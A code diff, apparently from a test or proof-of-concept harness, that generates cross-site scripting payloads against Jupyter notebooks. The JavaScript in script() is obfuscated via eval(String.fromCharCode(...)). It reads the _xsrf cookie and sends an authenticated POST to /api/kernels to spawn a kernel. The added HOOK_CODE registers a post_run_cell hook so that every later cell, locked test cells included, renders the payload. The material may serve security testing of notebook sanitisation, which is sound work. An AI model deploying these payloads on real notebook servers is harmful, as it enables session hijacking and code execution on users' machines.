@@ -25,7 +25,7 @@ def script(tag: str) -> str:
         "(function(){var m='" + MARK + " " + tag + "';"
         "window.__pwned=(window.__pwned||[]).concat([m]);document.title=m;console.log(m);"
         "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
-        "fetch('/api/kernels',{method:'POST',credentials:'include',headers:{'X-XSRFToken':x},body:'{}'})})()"
+        "fetch(location.origin+'/api/kernels',{method:'POST',credentials:'include',headers:{'X-XSRFToken':x},body:'{}'})})()"
     )
     return "eval(String.fromCharCode(" + ",".join(str(ord(ch)) for ch in body) + "))"
 
@@ -100,6 +100,14 @@ def display_code(channel: str = "output") -> str:
 HARMLESS_TABLE = ("<table><thead><tr><th>epoch</th><th>loss</th></tr></thead>"
                   "<tbody><tr><td>1</td><td>0.25</td></tr></tbody></table>")
 HARMLESS_CODE = f"from IPython.display import HTML as _HTML, display as _display\n_display(_HTML({HARMLESS_TABLE!r}))\n"
+
+
+# A post-run hook: every later cell, test cells and the lab's locked plot cells included, displays a payload.
+HOOK_CODE = (
+    "from IPython.display import HTML as _HTML, display as _display\n"
+    f"_payload = {html_payloads('hook')[1]!r}\n"
+    "get_ipython().events.register('post_run_cell', lambda _result: _display(_HTML(_payload)))\n"
+)
 
 
 def markdown_cells(channel: str = "markdown") -> Iterator[NotebookNode]:
